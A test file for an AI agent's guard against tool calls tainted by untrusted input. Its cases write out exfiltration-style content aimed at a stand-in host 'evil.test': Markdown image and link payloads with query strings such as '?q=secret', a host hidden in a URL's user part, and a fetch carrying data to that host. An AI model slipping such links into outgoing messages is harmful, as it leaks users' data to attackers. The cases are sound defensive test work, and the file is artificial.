/** Targets that hide where nobody looks for them, or that stand in a trusted text by chance. */
import { expect, test } from "vitest";
import { effectFrom } from "../../runtime/agents/mcp/tool-annotations.ts";
import { decideCall } from "../../runtime/scheduler/guard/decide-call.ts";
import { holdCaseCount } from "./attack-table.ts";

const TASK = "Tell ada@example.org what https://example.org/news says on June 13, at 10:20.";

function ruling(args: object, { targets = ["to"], task = TASK } = {}): string {
  const call = { tool: "send", args, effect: "external", baseline: "never", targets } as const;
  return decideCall({ ...call, isTainted: true }, { trusted: [task] }, false).may;
}

test.each([
  ["a link", "See https://evil.test/login."],
  ["a link without a scheme", "See www.evil.test for more."],
  ["a link of Markdown", "See [here](https://evil.test)."],
  ["a picture", "![](https://evil.test/?q=secret)"],
  ["a link of HTML", '<a href="https://evil.test">here</a>'],
  ["a mailbox", "Write to eve@evil.test."],
  ["a host below a named one", "See https://login.example.org/"],
  ["a named host as the user", "See https://example.org@evil.test/"],
  ["a link in a list", ["fine", "https://evil.test"]],
])("a text to a named recipient with %s that nobody named is asked about", (_, body) => {
  expect(ruling({ to: "ada@example.org", body })).toBe("ask");
});

test.each([
  ["a named link", "See https://example.org/news/today."],
  ["a name of a file", "It is in notes.md and report.pdf."],
  ["a time and an amount", "At 10:20, 4.50 each."],
])("a text with %s is not", (_, body) => {
  expect(ruling({ to: "ada@example.org", body })).toBe("call");
});

test.each([
  ["a day", TASK],
  ["a date", "Sum up 2024-05-13."],
  ["a count", "Show 13 files."],
  ["a price", "It costs 13 dollars."],
  ["a version", "Since version 13.2"],
  ["a longer number", "id 131"],
])("a small number that is %s in the task names no target", (_, task) => {
  expect(ruling({ id: "13" }, { targets: ["id"], task })).toBe("ask");
  expect(ruling({ id: 13 }, { targets: ["id"], task })).toBe("ask");
});

test.each(["Delete the file with ID 13.", "Delete #13", "Delete '13'", "13", "number: 13, please"])(
  "%j names it",
  (task) => {
    expect(ruling({ id: 13 }, { targets: ["id"], task })).toBe("call");
  },
);

test("a tool of a trusted server that reads from elsewhere may carry something there", () => {
  const hints = { readOnlyHint: true, openWorldHint: true };
  const { effect, baseline = "never" } = effectFrom(hints, { isTrusted: true });
  const call = {
    tool: "fetch",
    args: { url: "https://evil.test/?q=1" },
    effect,
    baseline,
  } as const;
  expect(decideCall({ ...call, isTainted: true }, { trusted: [TASK] }, false).may).toBe("ask");
});

holdCaseCount();
